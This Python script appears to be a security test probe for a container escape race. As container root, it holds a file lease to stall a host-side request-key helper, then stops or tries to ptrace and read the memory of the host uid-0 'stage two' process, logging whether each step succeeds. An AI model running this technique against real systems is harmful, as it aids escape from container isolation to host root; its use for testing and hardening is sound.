#!/usr/bin/python3
# Plays container root against the broker's stage two: the process of this
# pid namespace that clones the helper and, sharing its memory, waits for
# the helper's exec (CLONE_VFORK), still host uid 0 with host fds. A write
# lease on the helper's program holds the helper in its exec, after its
# credential change (the kernel breaks the lease and the opener waits for
# us); then, by mode:
#   stop <seconds>  stop stage two, release the lease, keep stage two
#                   stopped that long: the helper runs and ends, stage two
#                   holds the set-up's pipes. Reports stopped=, alive_after=.
#   trace           try PTRACE_ATTACH and /proc/<pid>/mem on stage two (with
#                   fs.suid_dumpable=1 a memory shared with the helper would
#                   be dumpable now), then release. Reports found=, wins=.
# Usage: stage_two.py <program> <report-file> stop <seconds> | trace
import ctypes, fcntl, os, signal, sys, time

F_SETLEASE = getattr(fcntl, 'F_SETLEASE', 1024)
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
prog, report, mode = sys.argv[1], sys.argv[2], sys.argv[3]
broken = False

def on_io(sig, frame):
    global broken
    broken = True

def out(line):
    with open(report, 'a') as f:
        f.write(line + '\n')

def stage_two():
    # comm of the broker's binary, one level of pid namespace (the helper,
    # pid 1 of a child namespace, shows two)
    for p in os.listdir('/proc'):
        if not p.isdigit() or int(p) == os.getpid():
            continue
        try:
            comm = open(f'/proc/{p}/comm').read().strip()
            nspid = [l.split()[1:] for l in open(f'/proc/{p}/status') if l.startswith('NSpid:')][0]
        except (OSError, IndexError):
            continue
        if comm == 'request-key' and len(nspid) == 1:
            return int(p)
    return None

def trace(pid):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    wins = 0
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
        wins += 1
        libc.ptrace(PTRACE_DETACH, pid, None, None)
    try:
        with open(f'/proc/{pid}/mem', 'rb') as m:
            m.read(1)
        wins += 1
    except OSError:
        pass
    return wins

signal.signal(signal.SIGIO, on_io)
fd = os.open(prog, os.O_RDONLY)
fcntl.fcntl(fd, F_SETLEASE, fcntl.F_WRLCK)
out('leased')
end = time.time() + 60
while not broken and time.time() < end:
    time.sleep(0.01)
pid = stage_two() if broken else None
if mode == 'trace':
    wins = trace(pid) if pid else 0
elif pid:
    os.kill(pid, signal.SIGSTOP)
fcntl.fcntl(fd, F_SETLEASE, fcntl.F_UNLCK)
os.close(fd)
if mode == 'trace':
    out(f'found={1 if pid else 0}')
    out(f'wins={wins}')
    sys.exit(0)
out(f'stopped={1 if pid else 0}')
if not pid:
    sys.exit(1)
time.sleep(float(sys.argv[4]))
alive = True
try:
    os.kill(pid, signal.SIGCONT)
except ProcessLookupError:
    alive = False
out(f'alive_after={"yes" if alive else "no"}')
